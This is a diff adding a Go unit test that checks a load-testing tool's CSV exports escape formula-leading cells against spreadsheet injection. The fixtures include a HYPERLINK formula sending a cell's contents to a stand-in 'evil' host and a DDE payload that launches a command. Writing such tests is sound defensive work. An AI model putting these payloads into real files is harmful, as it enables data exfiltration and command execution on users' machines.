@@ -2,6 +2,7 @@ package report
 
 import (
 	"bytes"
+	"encoding/csv"
 	"flag"
 	"io"
 	"os"
@@ -315,5 +316,50 @@ func TestVerdictNoRuns(t *testing.T) {
 	}
 	if got := buf.String(); !strings.Contains(got, "No runs done: no figures to show.") || strings.Contains(got, "<h2>Verdict</h2>") {
 		t.Errorf("HTML verdict with no runs has its tables")
+	}
+}
+
+// TestCSVInjection: text cells that a spreadsheet would run as a formula
+// (=, +, -, @, tab, CR first) are written with a ' before them, in every
+// CSV loadlab writes; numbers, negative ones too, stay numbers.
+func TestCSVInjection(t *testing.T) {
+	r := fixture(t)
+	r.Steps[0].Name = `=HYPERLINK("http://evil/?"&A1,"x")`
+	r.Steps[1].Scenario = "@SUM(A1:A9)"
+	o := fixtureExperiment(t)
+	o.Runs[0].Error = "-1+cmd|' /C calc'!A0"
+	o.Runs[0].Point = "+point"
+	for name, f := range map[string]func(w io.Writer) error{
+		"steps": func(w io.Writer) error { return StepsCSV(w, r) },
+		"runs":  func(w io.Writer) error { return RunsCSV(w, o) },
+	} {
+		rows, err := csv.NewReader(bytes.NewReader(render(t, f))).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		found := 0
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell == "" {
+					continue
+				}
+				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					if _, err := strconv.ParseFloat(cell, 64); err != nil {
+						t.Errorf("%s: cell %q would run as a formula", name, cell)
+					}
+				}
+				if strings.HasPrefix(cell, "'") {
+					found++
+				}
+			}
+		}
+		if found < 2 {
+			t.Errorf("%s: %d cells prefixed, want the 2 hostile ones", name, found)
+		}
+	}
+	for _, tt := range []struct{ in, want string }{{"-0.5", "-0.5"}, {"+3", "+3"}, {"-x", "'-x"}, {"a=b", "a=b"}, {"\tx", "'\tx"}} {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
 	}
 }
